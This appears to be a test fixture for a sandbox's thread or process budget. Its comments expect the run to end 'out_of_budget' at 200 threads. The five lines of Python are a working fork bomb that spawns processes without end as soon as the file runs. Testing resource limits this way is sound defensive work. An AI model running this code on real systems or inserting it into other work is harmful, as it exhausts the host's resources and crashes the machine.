# ends: out_of_budget threads
# says: 200 threads
import multiprocessing
def bomb():
    while True: multiprocessing.Process(target=bomb).start()
bomb()
